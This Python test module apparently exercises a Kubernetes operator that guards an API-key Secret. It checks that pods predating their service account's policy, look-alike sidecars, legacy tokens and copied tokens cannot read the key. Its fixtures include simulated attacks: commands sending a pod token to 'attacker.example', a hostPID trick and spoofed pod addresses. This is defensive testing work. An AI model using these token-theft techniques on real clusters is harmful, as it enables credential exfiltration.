"""The late-pods catalogue: a pod that predates the policy naming its account never gains the Secret.

The bypass guard checks pods when they are created; a pod created while its
account was nobody's subject keeps the ``kube-api-access-*`` token the
ServiceAccount admission step gave every container. If the operator bound the
account as soon as an admin named it in a policy, that token would read the
key. Here, on the real apiserver with both guards applied from ``helm
template`` and the real ``sidekey operator``, an admin names such accounts,
and each case asks the apiserver with the pod's own token (minted bound to
the pod, as the kubelet would) whether it can read the Secret: it must not,
and the policy's condition and a Warning Event must name the pod. Once the
pod is gone, the grant follows.

On the code before the hold (the operator bound every subject at once) the
first GET answers 200 with the key. The last case crashes the operator right
after a held pod is deleted and starts it again: the new instance never saw
the pod, and on the code before its restart grace it granted at once, while
the apiserver still accepted the deleted pod's token from its cache. And the
very last one copies a bare pod's token, deletes the pod and only then names
its account: nothing is left to hold, but the copied token is still cached.
"""

from __future__ import annotations

import base64
import contextlib
import json
import ssl
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sidekey.core import contract
from tests.guards import admission, manifests
from tests.support.kubectl import condition, get, wait_for
from tests.support.namespaces import make_namespace
from tests.support.operator import RunningOperator, start_operator

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def operator(cluster: Any, crds: list[str], tmp_path_factory: pytest.TempPathFactory
             ) -> Iterator[RunningOperator]:
    text = admission.install_guards(cluster)
    op = start_operator(cluster, tmp_path_factory.mktemp("late-pods"),
                        "--sidecar-image", manifests.DEFAULT_SIDECAR_IMAGE)
    try:
        yield op
    finally:
        op.stop()
        cluster.kubectl("delete", "namespace", op.namespace, "--wait=false", check=False)
        admission.remove_guards(cluster, text)


@pytest.fixture
def team(cluster: Any, operator: RunningOperator) -> Iterator[str]:
    """A namespace whose ``agent`` account is a ready policy's subject, and a bare pod of ``late``."""
    with _team_namespace(cluster) as ns:
        yield ns


@contextlib.contextmanager
def _team_namespace(cluster: Any) -> Iterator[str]:
    ns = make_namespace(cluster, "sklate")
    try:
        for obj in (manifests.service_account(ns, "agent"), manifests.service_account(ns, "late"),
                    manifests.secret(ns), manifests.agent_policy(ns, subjects=["agent"])):
            assert admission.apply(cluster, obj).admitted
        # Guards on: a bare pod of the subject is refused, so the cluster is guarded...
        probe = admission.wait_until_enforced(cluster, manifests.bare_pod(ns, "probe", sa="agent"))
        assert not probe.admitted, "the bypass guard did not take effect within 30 s"
        # ...and a bare pod of an account nobody names yet is admitted, token and all.
        assert admission.create(cluster, manifests.bare_pod(ns, "late-pod", sa="late")).admitted
        _wait_ready(cluster, ns, generation=1)
        yield ns
    finally:
        cluster.kubectl("delete", "namespace", ns, "--wait=false", check=False)


def _wait_ready(cluster: Any, ns: str, *, generation: int, status: str | None = None
                ) -> dict[str, Any]:
    """The policy once the operator has reconciled this generation (RBAC is written before status)."""
    def check() -> dict[str, Any] | None:
        p = get(cluster, "agentpolicy", "openai", ns)
        c = condition(p, "Ready")
        if p and c and c["observedGeneration"] >= generation and (status is None or c["status"] == status):
            return p
        return None
    found: dict[str, Any] = wait_for(f"{ns}/openai reconciled at generation {generation}", check, 30)
    return found


def _name(cluster: Any, ns: str, accounts: list[str]) -> dict[str, Any]:
    """What the admin does: add accounts to the policy's subjects."""
    p = manifests.agent_policy(ns, subjects=accounts)
    answer = admission.apply(cluster, p)
    assert answer.admitted, answer.message
    generation = int(answer.obj["metadata"]["generation"]) if answer.obj else 2
    return _wait_ready(cluster, ns, generation=generation)


def _pod_token(cluster: Any, ns: str, pod: str, account: str) -> str:
    """The pod's API token, as the kubelet mints it for the kube-api-access volume."""
    uid = json.loads(cluster.kubectl("get", "pod", pod, "-n", ns, "-o", "json"))["metadata"]["uid"]
    token: str = cluster.token(ns, account, audience=cluster.issuer, pod_name=pod, pod_uid=uid)
    return token


def _read_secret(cluster: Any, token: str, ns: str) -> int:
    ctx = ssl.create_default_context(cafile=str(cluster.ca_file))
    req = urllib.request.Request(  # noqa: S310 (the test apiserver)
        f"{cluster.url}/api/v1/namespaces/{ns}/secrets/{manifests.SECRET}",
        headers={"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(req, context=ctx, timeout=10) as resp:  # noqa: S310 (the test apiserver)
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def _events(cluster: Any, ns: str, reason: str) -> list[dict[str, Any]]:
    items = json.loads(cluster.kubectl("get", "events", "-n", ns, "-o", "json"))["items"]
    return [e for e in items if e["reason"] == reason]


def test_a_bare_pod_that_predates_its_account_being_named_cannot_read_the_secret(
        cluster: Any, operator: RunningOperator, team: str) -> None:
    token = _pod_token(cluster, team, "late-pod", "late")
    assert _read_secret(cluster, token, team) == 403  # not a subject yet
    policy = _name(cluster, team, ["agent", "late"])

    assert _read_secret(cluster, token, team) == 403, "the late pod's API token reads the key"
    held = condition(policy, "SubjectsGranted")
    assert held is not None and (held["status"], held["reason"]) == ("False", "UninjectedPods")
    assert "late-pod" in held["message"] and "late" in held["message"]
    assert condition(policy, "Ready")["reason"] == "GrantHeld"  # type: ignore[index]
    warning = wait_for("GrantHeld Event", lambda: _events(cluster, team, "GrantHeld"))
    assert warning[0]["type"] == "Warning" and "late-pod" in warning[0]["message"]
    assert warning[0]["involvedObject"]["name"] == "openai"
    assert operator.metric("sidekey_operator_blocked_subject_pods") >= 1
    # the accounts whose pods are all injected keep their grant
    agent = cluster.token(team, "agent", audience=cluster.issuer)
    assert _read_secret(cluster, agent, team) == 200

    # The pod goes. The apiserver caches a token's authentication for 10 s, so a
    # token copied out of the pod still authenticates for a moment: the hold
    # outlasts that, and then the grant follows, for the account's pods to come.
    cluster.kubectl("delete", "pod", "late-pod", "-n", team, "--wait=true", "--grace-period=0",
                    "--force")
    gone = time.monotonic()
    while time.monotonic() - gone < 12:
        assert _read_secret(cluster, token, team) in (401, 403), "the deleted pod's token read the key"
        time.sleep(0.5)
    wait_for("the grant", lambda: (c := condition(get(cluster, "agentpolicy", "openai", team),
                                                  "SubjectsGranted")) and c["status"] == "True", 30)
    assert _read_secret(cluster, token, team) == 401  # the old pod's token died with it
    fresh = cluster.token(team, "late", audience=cluster.issuer)
    wait_for("late may read", lambda: _read_secret(cluster, fresh, team) == 200)
    assert _events(cluster, team, "GrantReleased")
    # no Secret value in what the operator reported
    seen = cluster.kubectl("get", "agentpolicy", "openai", "-n", team, "-o", "yaml") + \
        cluster.kubectl("get", "events", "-n", team, "-o", "yaml") + operator.output()
    assert "sk-test-not-a-real-key" not in seen


def test_a_late_pod_holds_back_only_its_own_account_and_injected_pods_hold_nothing(
        cluster: Any, operator: RunningOperator, team: str) -> None:
    assert admission.create(cluster, manifests.service_account(team, "tidy")).admitted
    assert admission.create(cluster, manifests.injected_pod(team, "tidy-pod", sa="tidy")).admitted
    policy = _name(cluster, team, ["agent", "late", "tidy"])
    held = condition(policy, "SubjectsGranted")
    assert held is not None and held["status"] == "False"
    assert "tidy" not in held["message"].split(":")[0]  # only late is named as held
    binding = get(cluster, "rolebinding", "sidekey-policy-openai", team)
    assert binding is not None
    assert sorted(s["name"] for s in binding["subjects"]) == ["agent", "tidy"]
    uid = json.loads(cluster.kubectl("get", "pod", "tidy-pod", "-n", team, "-o", "json"))["metadata"]["uid"]
    tidy = cluster.token(team, "tidy", audience=cluster.issuer, pod_name="tidy-pod", pod_uid=uid)
    assert _read_secret(cluster, tidy, team) == 200  # the injected pod's sidecar reads it
    assert _read_secret(cluster, _pod_token(cluster, team, "late-pod", "late"), team) == 403


def test_naming_default_warns_and_holds_back_the_default_accounts_bare_pods(
        cluster: Any, operator: RunningOperator, team: str) -> None:
    pod = manifests.bare_pod(team, "plain-pod")
    del pod["spec"]["serviceAccountName"]  # what most pods do: they run as default
    assert admission.create(cluster, pod).admitted
    policy = _name(cluster, team, ["agent", "default"])
    warning = condition(policy, "DefaultSubject")
    assert warning is not None and (warning["status"], warning["reason"]) == ("True", "DefaultServiceAccount")
    assert "'default'" in warning["message"]
    held = condition(policy, "SubjectsGranted")
    assert held is not None and held["status"] == "False" and "plain-pod" in held["message"]
    assert _read_secret(cluster, _pod_token(cluster, team, "plain-pod", "default"), team) == 403
    wait_for("DefaultSubject Event", lambda: _events(cluster, team, "DefaultSubject"))
    # and the warning goes with the name
    policy = _name(cluster, team, ["agent"])
    assert condition(policy, "DefaultSubject") is None


def _own_command(pod: dict[str, Any]) -> None:
    manifests.sidecar(pod)["command"] = ["sh", "-c", "send-my-token-to https://attacker.example"]


def _host_pids(pod: dict[str, Any]) -> None:
    # The real sidecar, but an agent that sees the host's processes reads its
    # token through /proc/<pid>/root. Admitted by the vetting before it checked hostPID.
    pod["spec"]["hostPID"] = True


def _exec_probe(pod: dict[str, Any]) -> None:
    # The real sidecar, but the kubelet runs the pod author's command in it, beside
    # its token. Admitted by the vetting before it checked probes and hooks.
    manifests.sidecar(pod)["livenessProbe"] = {
        "exec": {"command": ["sh", "-c", "send-my-token-to https://attacker.example"]}}


def _made_up_pod_addresses(pod: dict[str, Any]) -> None:
    # The real sidecar, told its pod has other addresses (plain values, not
    # status.podIPs): its refusal of upstreams resolving to its own pod then
    # misses the real ones, and a hosts entry hairpins the key to the agent.
    # Admitted by the vetting before it checked the fieldRefs.
    for e in manifests.sidecar(pod)["env"]:
        if e["name"] in (contract.ENV_POD_IP, contract.ENV_POD_IPS):
            e.pop("valueFrom")
            e["value"] = "192.0.2.1"


#: One way each to make the injected shape a look-alike with the allowed image,
#: so only the vetting of the sidecar and its pod can tell.
LOOKALIKES = {"own-command": _own_command, "made-up-pod-addresses": _made_up_pod_addresses,
              "host-pids": _host_pids, "exec-probe": _exec_probe}


@pytest.mark.parametrize("lookalike", sorted(LOOKALIKES))
def test_a_lookalike_sidecar_that_predates_its_account_being_named_gets_no_grant(
        cluster: Any, operator: RunningOperator, team: str, lookalike: str) -> None:
    assert admission.create(cluster, manifests.service_account(team, "mimic")).admitted
    pod = manifests.injected_pod(team, "mimic-pod", sa="mimic")
    LOOKALIKES[lookalike](pod)
    assert admission.create(cluster, pod).admitted  # nobody names mimic yet
    policy = _name(cluster, team, ["agent", "mimic"])
    assert _read_secret(cluster, _pod_token(cluster, team, "mimic-pod", "mimic"), team) == 403, \
        "the look-alike sidecar's API token reads the key"
    held = condition(policy, "SubjectsGranted")
    assert held is not None and held["status"] == "False"
    assert "mimic-pod" in held["message"] and "not the injected sidecar" in held["message"]
    assert "attacker.example" not in held["message"]  # what differs is named, never the value


def test_a_legacy_token_secret_of_an_account_holds_its_grant_back(
        cluster: Any, operator: RunningOperator, team: str) -> None:
    # A non-expiring API token of the account that any pod of the namespace may
    # mount as a secret volume (no right to read Secrets needed), and the guard
    # cannot tell its type. Named as a subject, the account must not read the key
    # with it. On the operator before it read such Secrets: 200.
    assert admission.create(cluster, manifests.service_account(team, "keeper")).admitted
    legacy = {"apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
              "metadata": {"name": "keeper-token", "namespace": team,
                           "annotations": {"kubernetes.io/service-account.name": "keeper"}}}
    assert admission.create(cluster, legacy).admitted

    def filled() -> str | None:
        data = (get(cluster, "secret", "keeper-token", team) or {}).get("data") or {}
        return data.get("token")

    token = base64.b64decode(wait_for("the token controller fills the legacy token", filled, 30)).decode()
    policy = _name(cluster, team, ["agent", "keeper"])
    assert _read_secret(cluster, token, team) == 403, "the legacy token of a subject reads the key"
    held = condition(policy, "SubjectsGranted")
    assert held is not None and held["status"] == "False" and "Secret keeper-token" in held["message"]
    assert token not in json.dumps(policy)
    # deleted, the grant follows (after the apiserver's token cache has let go of it)
    cluster.kubectl("delete", "secret", "keeper-token", "-n", team)
    wait_for("the grant once the legacy token is gone", lambda: (c := condition(
        get(cluster, "agentpolicy", "openai", team), "SubjectsGranted")) and c["status"] == "True", 40)


def _restart(cluster: Any, operator: RunningOperator, workdir: Path) -> None:
    """Crash the operator (SIGKILL: nothing flushed, nothing handed over) and start it
    again at once, in the fixture's place, so the module's teardown stops the new one."""
    operator.process.kill()
    operator.process.wait()
    new = start_operator(cluster, workdir, "--sidecar-image", manifests.DEFAULT_SIDECAR_IMAGE,
                         namespace=operator.namespace)
    for field in ("process", "log", "health_port", "metrics_port", "args"):
        setattr(operator, field, getattr(new, field))


def _bound(cluster: Any, ns: str) -> list[str]:
    binding = get(cluster, "rolebinding", "sidekey-policy-openai", ns) or {}
    return sorted(s["name"] for s in binding.get("subjects") or [])


def test_an_operator_restarted_right_after_a_held_pod_went_does_not_grant_before_its_token_expires(
        cluster: Any, operator: RunningOperator, team: str, tmp_path: Path) -> None:
    """The case needs the restarted operator's first reconcile within 14 s of the deletion,
    while the apiserver still accepts the pod's token from its cache: a restart slower than
    that (a busy machine once took 15.3 s) tests nothing. So the scenario runs once more in a
    fresh namespace, and the case fails if that restart is slow too."""
    if _restart_after_a_held_pod_went(cluster, operator, team, tmp_path / "first"):
        return
    with _team_namespace(cluster) as again:
        assert _restart_after_a_held_pod_went(cluster, operator, again, tmp_path / "again"), \
            "the operator's restart took too long, twice, for this case to test anything"


def _restart_after_a_held_pod_went(cluster: Any, operator: RunningOperator, team: str,
                                   workdir: Path) -> bool:
    """The scenario, with every assertion; False if the restart was too slow to test it."""
    workdir.mkdir()
    token = _pod_token(cluster, team, "late-pod", "late")
    policy = _name(cluster, team, ["agent", "late"])
    held = condition(policy, "SubjectsGranted")
    assert held is not None and (held["status"], held["reason"]) == ("False", "UninjectedPods")
    first_log = operator.log

    # The token authenticates (and the apiserver caches that) but may not read the
    # Secret. Then the pod goes and, at once, the operator crashes and comes back.
    assert _read_secret(cluster, token, team) == 403
    cluster.kubectl("delete", "pod", "late-pod", "-n", team, "--wait=true", "--grace-period=0",
                    "--force")
    gone = time.monotonic()
    _restart(cluster, operator, workdir)

    def rewritten() -> dict[str, Any] | None:
        # The old instance wrote UninjectedPods (the pod, then the pod deleted); anything
        # else is the new instance's first reconcile.
        p = get(cluster, "agentpolicy", "openai", team)
        c = condition(p, "SubjectsGranted")
        return p if c is not None and c["reason"] != "UninjectedPods" else None

    policy = wait_for("the restarted operator's first reconcile", rewritten, 10)
    if time.monotonic() - gone >= 14:
        return False
    code = _read_secret(cluster, token, team)  # 200 on the operator before the restart grace
    assert code in (401, 403), f"the deleted pod's token read the key ({code}) after the restart"
    assert "late" not in _bound(cluster, team), "the restarted operator granted at once"
    held = condition(policy, "SubjectsGranted")
    assert held is not None and (held["status"], held["reason"]) == ("False", "OperatorRestarted")
    assert "service account late waits until" in held["message"] and "restarted" in held["message"]
    ready = condition(policy, "Ready")
    assert ready is not None and (ready["status"], ready["reason"]) == ("False", "GrantHeld")
    assert _bound(cluster, team) == ["agent"]  # what was bound stays bound

    # Until the apiserver's cache has let go of the pod's token (10 s after the
    # deletion, and the hold's margin), the account stays unbound...
    while time.monotonic() - gone < 14.5:
        assert "late" not in _bound(cluster, team), \
            f"late granted {time.monotonic() - gone:.1f} s after its held pod went"
        assert _read_secret(cluster, token, team) in (401, 403), "the deleted pod's token read the key"
        time.sleep(0.5)
    # ...and then the grant follows, with no event to announce it (a timer).
    wait_for("the grant after the grace", lambda: (c := condition(
        get(cluster, "agentpolicy", "openai", team), "SubjectsGranted")) and c["status"] == "True", 30)
    assert _bound(cluster, team) == ["agent", "late"]
    fresh = cluster.token(team, "late", audience=cluster.issuer)
    wait_for("late may read", lambda: _read_secret(cluster, fresh, team) == 200)
    assert _read_secret(cluster, token, team) == 401  # the old pod's token died with it
    warned = [e for e in _events(cluster, team, "GrantHeld") if "restarted" in e["message"]]
    assert warned and warned[0]["type"] == "Warning"
    assert _events(cluster, team, "GrantReleased")
    seen = cluster.kubectl("get", "agentpolicy", "openai", "-n", team, "-o", "yaml") + \
        cluster.kubectl("get", "events", "-n", team, "-o", "yaml") + \
        first_log.read_text(errors="replace") + operator.output()
    assert "sk-test-not-a-real-key" not in seen and token not in seen
    return True


def test_a_token_copied_from_a_bare_pod_deleted_just_before_its_account_is_named_reads_nothing(
        cluster: Any, operator: RunningOperator, team: str) -> None:
    # Whoever may create pods as ``x`` (nobody's subject) runs a bare pod, copies its
    # API token out and deletes the pod: when an admin names ``x`` a moment later, no
    # pod is left to hold the grant back, but the apiserver still accepts the copied
    # token from its cache for 10 s. On the controller before it remembered every
    # exposed pod that went (not only the held ones), it granted at once.
    assert admission.create(cluster, manifests.service_account(team, "x")).admitted
    assert admission.create(cluster, manifests.bare_pod(team, "x-pod", sa="x")).admitted
    token = _pod_token(cluster, team, "x-pod", "x")  # what its container could copy out
    assert _read_secret(cluster, token, team) == 403  # it authenticates, and that is cached
    cluster.kubectl("delete", "pod", "x-pod", "-n", team, "--wait=true", "--grace-period=0",
                    "--force")
    gone = time.monotonic()
    answer = admission.apply(cluster, manifests.agent_policy(team, subjects=["agent", "x"]))
    assert answer.admitted, answer.message
    generation = int(answer.obj["metadata"]["generation"]) if answer.obj else 2

    held: dict[str, Any] | None = None
    while time.monotonic() - gone < 14.5:
        bound = _bound(cluster, team)
        code = _read_secret(cluster, token, team)  # 200 on the controller before
        assert code in (401, 403) and "x" not in bound, (
            f"{time.monotonic() - gone:.1f} s after the deletion the copied token got {code} "
            f"on the Secret; bound: {bound}")
        p = get(cluster, "agentpolicy", "openai", team)
        c = condition(p, "SubjectsGranted")
        if held is None and c is not None and c["observedGeneration"] >= generation:
            held = c
            assert (c["status"], c["reason"]) == ("False", "UninjectedPods"), c
            assert "x-pod (deleted;" in c["message"] and "service account x " in c["message"]
            assert condition(p, "Ready")["reason"] == "GrantHeld"  # type: ignore[index]
            assert _bound(cluster, team) == ["agent"]  # the other subject keeps its grant
        time.sleep(0.5)
    assert held is not None, "the operator did not reconcile the edit within 14.5 s"
    # then the grant follows, with no event to announce it (a timer)
    wait_for("the grant once the copied token's cache entry is gone", lambda: (c := condition(
        get(cluster, "agentpolicy", "openai", team), "SubjectsGranted")) and c["status"] == "True", 30)
    assert _bound(cluster, team) == ["agent", "x"]
    assert _read_secret(cluster, token, team) == 401  # the pod's token died with it
    fresh = cluster.token(team, "x", audience=cluster.issuer)
    wait_for("x may read", lambda: _read_secret(cluster, fresh, team) == 200)
    warned = [e for e in _events(cluster, team, "GrantHeld") if "x-pod" in e["message"]]
    assert warned and warned[0]["type"] == "Warning"
    seen = cluster.kubectl("get", "agentpolicy", "openai", "-n", team, "-o", "yaml") + \
        cluster.kubectl("get", "events", "-n", team, "-o", "yaml") + operator.output()
    assert "sk-test-not-a-real-key" not in seen and token not in seen
